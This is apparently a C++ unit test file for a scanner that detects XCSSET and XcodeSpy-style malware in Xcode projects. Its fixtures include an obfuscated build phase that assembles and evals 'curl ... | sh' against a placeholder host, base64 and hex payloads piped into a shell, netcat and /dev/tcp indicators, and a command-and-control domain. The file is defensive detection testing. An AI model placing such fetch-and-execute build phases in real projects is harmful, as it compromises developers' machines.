#include "scan/ScanPipelines.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "support/LogCapture.h"
#include "support/TempTree.h"

namespace quillon::scan {
namespace {

using platform::FileURL;
using Strings = std::vector<std::string>;
using core::ScanResult;

const std::string kChmod = "HIGH: executable permission escalation (chmod detected)";
const std::string kObfuscated =
    "exit 0; a='cu';b='rl';c=' -fsS';d=' ht';e='tps://x';f='.invalid';g='/s';h=' | sh';"
    "eval \\\"$a$b$c$d$e$f$g$h\\\"";

std::string projectFile(const std::string& escapedScript) {
    return "// !$*UTF8*$!\n{ isa = PBXShellScriptBuildPhase; shellScript = \"" + escapedScript +
           "\"; }\n";
}

TEST(XCSSETPipeline, VerdictRestsOnTheChmodFindingAlone) {
    const struct {
        const char* name;
        const char* path;
        std::string content;
        bool clean;
    } cases[] = {
        {"chmodScript", "Scripts/run.sh", "chmod +x helper", false},
        {"criticalWithoutChmod", "App.xcodeproj/project.pbxproj",
         projectFile("curl -fsSL https://x.invalid | bash; echo Zm9v | base64 -D | sh"), true},
        {"curlIntoShellCapped", "Scripts/run.sh", "curl -fsSL https://x.invalid/i | sh", true},
        {"chmodInPods", "Pods/Lib/run.sh", "chmod +x helper", true},
        {"chmodInASourceFileIsNotScanned", "Sources/main.swift", "chmod +x helper", true},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        testing::TempTree tree;
        tree.write(c.path, c.content);
        EXPECT_EQ(scanXCSSETFinal(tree.url(), platform::nullOutput()), c.clean);
    }
}

TEST(XCSSETPipeline, ExactListing) {
    testing::TempTree tree;
    tree.write("run.sh", "chmod +x tool");
    tree.write("main.swift", "print(1)");
    testing::LogCapture log;
    platform::MemoryLineWriter output;
    EXPECT_FALSE(scanXCSSETFinal(tree.url(), output));
    const std::string run = tree.path("run.sh");
    EXPECT_EQ(
        output.lines(),
        (Strings{"\u26A0\uFE0F " + tree.url().absoluteString() + "main.swift",
                 "\u26A0\uFE0F " + tree.url().absoluteString() + "run.sh",
                 "\n==============================", "\U0001F4C1 FILE: " + run,
                 "\u26A0\uFE0F SCORE: 60", "\u2022 SEVERITY: HIGH suspicion", "\u2022 " + kChmod,
                 "==============================\n", "\u26A0\uFE0F run.sh", "Score: 60",
                 "Findings: [\"SEVERITY: HIGH suspicion\", \"" + kChmod + "\"]"}));
    EXPECT_EQ(log.leveled("BackgroundScan"),
              (Strings{"info Starting scanXCSSETFinal " + tree.url().absoluteString()}));
}

TEST(XCSSETPipeline, ThreatStopsTheListingButKeepsEveryResult) {
    testing::TempTree tree;
    tree.write("a.sh", "chmod 777 a");
    tree.write("b.sh", "chmod +x b");
    platform::MemoryLineWriter output;
    const PipelineRun run = runXCSSETPipeline(tree.url(), output);
    EXPECT_FALSE(run.clean);
    ASSERT_EQ(run.results.size(), 2u);
    const Strings lines = output.lines();
    EXPECT_EQ(std::count(lines.begin(), lines.end(), "\u26A0\uFE0F a.sh"), 1);
    EXPECT_EQ(std::count(lines.begin(), lines.end(), "\u26A0\uFE0F b.sh"), 0);
    EXPECT_EQ(lines.back().rfind("Findings: ", 0), 0u);
}

TEST(XcodeSpyPipeline, JudgingOneResult) {
    using Kind = XcodeSpyThreat::Kind;
    const struct {
        const char* name;
        std::int64_t score;
        Strings findings;
        std::optional<Kind> kind;
        std::string_view indicator;
    } cases[] = {
        {"score49", 49, {"nothing notable"}, std::nullopt, {}},
        {"score50", 50, {"nothing notable"}, Kind::highRisk, {}},
        {"curlInCapitals", 0, {"Reconstructed: CURL x"}, Kind::criticalIndicator, "curl"},
        {"ncNeedsItsSpace", 0, {"run nc"}, std::nullopt, {}},
        {"ncWithOptions", 0, {"nc -l 4444"}, Kind::criticalIndicator, "nc "},
        {"wordEndingInNc", 0, {"sync now"}, Kind::criticalIndicator, "nc "},
        {"spansTwoFindings", 0, {"x bash", "&> y"}, Kind::criticalIndicator, "bash &>"},
        {"firstInTableOrder",
         100,
         {"osascript /dev/tcp/host"},
         Kind::criticalIndicator,
         "/dev/tcp/"},
        {"commandAndControlDomain", 0, {"cdnroute.ru"}, Kind::criticalIndicator, "cdnroute.ru"},
        {"indicatorBeforeScore", 100, {"LaunchAgents"}, Kind::criticalIndicator, "launchagents"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        const auto threat =
            judgeXcodeSpyResult(ScanResult{FileURL("/p/x.pbxproj", false), c.score, c.findings});
        ASSERT_EQ(threat.has_value(), c.kind.has_value());
        if (threat) {
            EXPECT_EQ(threat->kind, *c.kind);
            EXPECT_EQ(threat->indicator, c.indicator);
        }
    }
}

TEST(XcodeSpyPipeline, ObfuscatedPhaseIsAThreat) {
    testing::TempTree tree;
    tree.write("App.xcodeproj/project.pbxproj", projectFile(kObfuscated));
    tree.write("Base.xcconfig", "A = 1");
    testing::LogCapture log;
    platform::MemoryLineWriter output;
    EXPECT_FALSE(scanXcodeSecurityFinal(tree.url(), output));
    const Strings lines = output.lines();
    ASSERT_GE(lines.size(), 5u);
    EXPECT_EQ(lines[0], "\U0001F50D Scanning: " + tree.path("App.xcodeproj/project.pbxproj"));
    EXPECT_EQ(lines[1], "\U0001F50D Scanning: " + tree.path("Base.xcconfig"));
    EXPECT_EQ(lines[2], "\u26A0\uFE0F File: project.pbxproj");
    EXPECT_EQ(lines[3], "\u26A0\uFE0F Risk Score: 100");
    EXPECT_EQ(lines[4], "\u26A0\uFE0F Findings:");
    EXPECT_EQ(lines[5], "   - Obfuscated build script detected");
    EXPECT_EQ(log.leveled("BackgroundScan"),
              (Strings{"info Starting scanXcodeSecurityFinal " + tree.root().string(),
                       "error Critical Xcode malware indicator found: curl"}));
}

TEST(Pipelines, MissingFolderIsCleanForBoth) {
    testing::LogCapture log;
    const FileURL missing("/nonexistent/quillon/project", true);
    platform::MemoryLineWriter output;
    EXPECT_TRUE(scanXCSSETFinal(missing, output));
    EXPECT_TRUE(scanXcodeSecurityFinal(missing, output));
    EXPECT_TRUE(output.lines().empty());
    EXPECT_EQ(log.leveled("BackgroundScan"),
              (Strings{"info Starting scanXCSSETFinal file:///nonexistent/quillon/project/",
                       "info Starting scanXcodeSecurityFinal /nonexistent/quillon/project",
                       "info scanXcodeSecurityFinal completed successfully"}));
}

TEST(Pipelines, CycleRunsXcodeSpyOnlyAfterACleanXCSSETScan) {
    testing::TempTree infected;
    infected.write("run.sh", "chmod +x a");
    infected.write("App.xcodeproj/project.pbxproj", projectFile(kObfuscated));
    const CycleRun first = runClassicCycle(infected.url(), platform::nullOutput());
    EXPECT_FALSE(first.clean);
    ASSERT_EQ(first.pipelines.size(), 1u);
    EXPECT_EQ(first.pipelines[0].name, "xcsset");

    testing::TempTree spied;
    spied.write("App.xcodeproj/project.pbxproj", projectFile(kObfuscated));
    const CycleRun second = runClassicCycle(spied.url(), platform::nullOutput());
    EXPECT_FALSE(second.clean);
    ASSERT_EQ(second.pipelines.size(), 2u);
    EXPECT_TRUE(second.pipelines[0].clean);
    EXPECT_FALSE(second.pipelines[1].clean);
}

TEST(Pipelines, SingleProjectScanTurnsRedOnBuildScriptThreats) {
    testing::TempTree tree;
    // A phase that pipes a hex payload into a shell: no chmod, so the XCSSET verdict is clean.
    tree.write("App.xcodeproj/project.pbxproj",
               "// !$*UTF8*$!\n{ objects = { P = { isa = PBXShellScriptBuildPhase; shellScript = "
               "\"echo 6563686f206869 | xxd -p -r | sh\"; }; }; }\n");
    platform::MemoryLineWriter output;
    EXPECT_TRUE(runXCSSETPipeline(tree.url(), platform::nullOutput()).clean);
    EXPECT_FALSE(runSingleProjectScan(tree.url(), output));
    const auto lines = output.lines();
    EXPECT_TRUE(std::any_of(lines.begin(), lines.end(), [](const std::string& line) {
        return line.starts_with("CRITICAL: Decoded data executed by a shell");
    }));
}

TEST(Pipelines, MonitoringCycleAddsTheBuildScriptAnalysisToTheClassicOne) {
    testing::TempTree tree;
    tree.write("App.xcodeproj/project.pbxproj", projectFile(kObfuscated));
    tree.write("run.sh", "chmod +x a");
    platform::MemoryLineWriter classicOutput;
    platform::MemoryLineWriter cycleOutput;
    const CycleRun classic = runClassicCycle(tree.url(), classicOutput);
    const CycleRun cycle = runScanCycle(tree.url(), cycleOutput);
    ASSERT_EQ(cycle.pipelines.size(), classic.pipelines.size() + 1);
    EXPECT_EQ(cycle.pipelines.back().name, "buildscripts");
    EXPECT_FALSE(cycle.clean);
    // The classic listing comes first and unchanged; the analysis's blocks follow.
    const auto classicLines = classicOutput.lines();
    const auto cycleLines = cycleOutput.lines();
    ASSERT_GE(cycleLines.size(), classicLines.size());
    EXPECT_TRUE(std::equal(classicLines.begin(), classicLines.end(), cycleLines.begin()));
}

TEST(Pipelines, FindingsListEscaping) {
    const std::pair<Strings, std::string> cases[] = {
        {{}, "[]"},
        {{"a"}, "[\"a\"]"},
        {{"a", "b"}, "[\"a\", \"b\"]"},
        {{"say \"hi\"\\"}, R"(["say \"hi\"\\"])"},
        {{"l1\nl2\r\t"}, R"(["l1\nl2\r\t"])"},
        {{std::string("\x01\x1b\x7f") + "\xC2\x85" + std::string(1, '\0')},
         R"(["\u{1}\u{1B}\u{7F}\u{85}\0"])"},
        {{"caf\u00E9 \u2192"}, "[\"caf\u00E9 \u2192\"]"},
    };
    for (const auto& [findings, text] : cases) {
        SCOPED_TRACE(text);
        EXPECT_EQ(describeFindings(findings), text);
    }
}

}  // namespace
}  // namespace quillon::scan
